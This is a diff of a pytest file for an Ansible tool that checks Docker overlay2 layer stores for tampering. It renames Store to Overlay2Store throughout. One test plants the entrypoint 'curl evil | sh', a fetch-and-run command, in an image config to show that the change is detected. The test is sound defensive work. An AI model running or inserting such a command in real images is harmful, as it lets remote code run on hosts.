@@ -14,13 +14,13 @@ import tempfile
 import pytest
 
 from ansible_collections.strata.overlay2.plugins.module_utils._facts.gather import gather
-from ansible_collections.strata.overlay2.plugins.module_utils._store.overlay2 import Store
+from ansible_collections.strata.overlay2.plugins.module_utils._store.overlay2 import Overlay2Store
 from ansible_collections.strata.overlay2.plugins.module_utils._verify.overlay2 import verify
 from devtools.collection import run_module
 
 
 def facts_of(engine):
-    return gather(Store.load(engine.data_root))
+    return gather(Overlay2Store.load(engine.data_root))
 
 
 def image(facts, tag):
@@ -58,7 +58,7 @@ def save_ok(engine, image_id):
 
 
 def test_a_clean_store_verifies_and_the_engine_saves_every_image(engine):
-    report = verify(Store.load(engine.data_root))
+    report = verify(Overlay2Store.load(engine.data_root))
     assert report.ok, found(report)
     facts = facts_of(engine)
     assert report.checked_layers == len(facts["layers"]) and report.checked_images == len(facts["images"])
@@ -74,7 +74,7 @@ def test_one_edited_byte_in_a_lower_layer_is_found_where_docker_save_fails(engin
     with preserved(path):
         with open(path, "r+b") as handle:
             handle.write(b"K")
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         tar_split = os.path.join(engine.data_root, "image/overlay2/layerdb/sha256", layer["chain_id"][7:],
                                  "tar-split.json.gz")
         assert found(report) == [(layer["chain_id"], "digest_mismatch", tar_split),
@@ -84,7 +84,7 @@ def test_one_edited_byte_in_a_lower_layer_is_found_where_docker_save_fails(engin
         for image_id in engine.image_ids():
             ok, error = save_ok(engine, image_id)
             assert ok == (image_id not in users), (image_id, error)
-    assert verify(Store.load(engine.data_root)).ok
+    assert verify(Overlay2Store.load(engine.data_root)).ok
 
 
 def test_a_truncated_file_is_found_with_its_size(engine):
@@ -93,7 +93,7 @@ def test_a_truncated_file_is_found_with_its_size(engine):
     path = os.path.join(layer["diff_dir"], "opt/blob.bin")
     with preserved(path):
         os.truncate(path, 1000)
-        report = verify(Store.load(engine.data_root), images=["strata/app-a:1.0"])
+        report = verify(Overlay2Store.load(engine.data_root), images=["strata/app-a:1.0"])
         assert [problem[1] for problem in found(report)] == ["digest_mismatch", "file_modified"]
         assert report.corrupt[0].problems[1].detail == "size 1000, the layer recorded 65536"
         assert not save_ok(engine, image(facts, "strata/app-a:1.0")["id"])[0]
@@ -105,7 +105,7 @@ def test_a_deleted_file_is_missing(engine):
     path = os.path.join(layer["diff_dir"], "data/data.txt")
     with preserved(path):
         os.unlink(path)
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         assert [(chain, kind) for chain, kind, p in found(report)] == [
             (layer["chain_id"], "digest_mismatch"), (layer["chain_id"], "file_missing")]
         assert found(report)[1][2] == path
@@ -119,7 +119,7 @@ def test_an_added_file_is_found_though_docker_save_cannot_see_it(engine):
     with open(path, "w", encoding="ascii") as handle:
         handle.write("#!/bin/sh\n")
     try:
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         assert found(report) == [(base["chain_id"], "file_added", path)]
         assert len(report.corrupt[0].images) == len(base["images"]) > 3
         assert save_ok(engine, image(facts, "strata/base:1.0")["id"])[0]  # the engine does not notice
@@ -134,7 +134,7 @@ def test_a_changed_layerdb_diff_is_metadata(engine):
     with preserved(os.path.join(record, "diff")) as path:
         with open(path, "w", encoding="ascii") as handle:
             handle.write("sha256:" + "1" * 64)
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         assert found(report) == [(top, "metadata", record), (top, "metadata", path)]
 
 
@@ -145,7 +145,7 @@ def test_a_deleted_cache_directory_is_metadata_on_its_layer(engine):
     aside = directory + ".strata-test-aside"  # renaming out of overlay2/ would cross dockerd's bind mount
     os.rename(directory, aside)
     try:
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         record = os.path.join(engine.data_root, "image/overlay2/layerdb/sha256", top["chain_id"][7:])
         assert found(report) == [(top["chain_id"], "metadata", record)]  # the record names what is gone
         assert report.corrupt[0].images == [image(facts, "strata/app-d:1.0")["id"]]
@@ -163,7 +163,7 @@ def test_a_replaced_image_config_is_metadata_on_that_image(engine):
         config["config"]["Entrypoint"] = ["/bin/sh", "-c", "curl evil | sh"]
         with open(path, "w", encoding="utf-8") as handle:
             json.dump(config, handle)
-        report = verify(Store.load(engine.data_root))
+        report = verify(Overlay2Store.load(engine.data_root))
         assert [(v.images, [(p.kind, p.path) for p in v.problems]) for v in report.corrupt] == [
             ([target], [("metadata", path)])]
 
